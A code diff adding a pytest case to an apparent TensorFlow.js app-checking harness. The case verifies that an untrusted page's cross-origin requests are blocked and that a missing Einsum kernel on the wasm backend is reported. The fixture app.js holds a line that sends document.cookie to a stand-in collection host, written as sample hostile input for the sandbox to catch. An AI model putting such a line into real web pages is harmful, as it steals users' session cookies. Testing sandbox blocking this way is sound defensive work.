@@ -138,3 +138,65 @@ def test_android_faulty_assets_quote_the_interpreter_and_the_fixed_one_runs(tmp_
     assert verified["legacy.tflite"].text == "The model is not a valid Flatbuffer buffer"
     assert verified["legacy.tflite"].scenario == "mobile/dl-integration-into-projects/importing-loading-models"
     assert not [f for f in report.findings if f.file.startswith(str(fixed))]
+
+
+EINSUM_PAGE = """<!DOCTYPE html>
+<html><head><script src="https://cdn.jsdelivr.net/npm/@tensorflow/tfjs@4.22.0/dist/tf.min.js"></script></head>
+<body><script src="app.js"></script></body></html>
+"""
+EINSUM_APP = """(async () => {
+  await tf.setBackend('cpu');
+  fetch('https://example.com/collect?cookie=' + encodeURIComponent(document.cookie)).catch(() => {});
+  fetch('http://127.0.0.1:9/').catch(() => {});
+  const model = await tf.loadGraphModel('model/model.json');
+  for (let run = 0; run < 3; run++) {
+    const y = tf.tidy(() => model.predict(tf.zeros([2, 8])));
+    await y.data();
+    y.dispose();
+  }
+})();
+"""
+
+
+def test_attack_an_apps_page_reaches_no_other_origin_and_a_kernel_a_backend_lacks_is_named(chromium: None,
+                                                                                            tmp_path: Path) -> None:
+    """The app's page is untrusted code: its requests to another host (or another loopback port) are refused
+    and listed.  Its model runs tf.einsum, whose kernel (Einsum) the wasm backend does not register: the
+    finding names the kernel and the backend, from tf.getKernelsForBackend in the page."""
+    import json
+    import os
+    import subprocess
+    import sys
+
+    import tensorflow as tf
+
+    from harness.artifacts import ArtifactCache
+    from harness.paths import REPO_ROOT, model_cache_root
+    from harness.targets.tfjs.convert import GRAPH_ARGS, run_converter
+
+    class Dot(tf.Module):
+        @tf.function(input_signature=[tf.TensorSpec([None, 8], tf.float32, name="x")])
+        def serve(self, x: tf.Tensor) -> dict[str, tf.Tensor]:
+            return {"y": tf.einsum("bi,bi->b", x, x)}
+
+    dot = Dot()
+    tf.saved_model.save(dot, str(tmp_path / "saved"), signatures={"serving_default": dot.serve})
+    converted = run_converter(ArtifactCache(model_cache_root()), list(GRAPH_ARGS), tmp_path / "saved")
+    app = tmp_path / "app"
+    shutil.copytree(converted, app / "model")
+    (app / "index.html").write_text(EINSUM_PAGE)
+    (app / "app.js").write_text(EINSUM_APP)
+    proc = subprocess.run([sys.executable, "-m", "harness", "check-config", str(app), "--json", "-q"],
+                          cwd=REPO_ROOT, capture_output=True, text=True, timeout=900,
+                          env={**os.environ, "PYTHONPATH": str(REPO_ROOT), "PITFALLS_TFJS_BACKENDS": "cpu,wasm"})
+    assert proc.returncode == 1, proc.stderr[-2000:]
+    report = json.loads(proc.stdout)
+    runs = report["bundles"][0]["runs"]
+    assert [r["backend"] for r in runs] == ["cpu", "wasm"]
+    for run in runs:
+        assert sorted(run["blocked"]) == ["http://127.0.0.1:9/", "https://example.com/collect?cookie="], run
+    kernel = [f for f in report["findings"] if f["step"] == "tfjs/kernel-missing"]
+    assert len(kernel) == 1 and "Einsum" in kernel[0]["text"] and "wasm backend" in kernel[0]["text"], kernel
+    assert kernel[0]["verified"] == "runtime" and kernel[0]["file"] == str(app / "index.html")
+    # the wasm page's own prediction fails with the engine's text
+    assert any("Kernel 'Einsum' not registered for backend 'wasm'" in f["text"] for f in report["findings"])
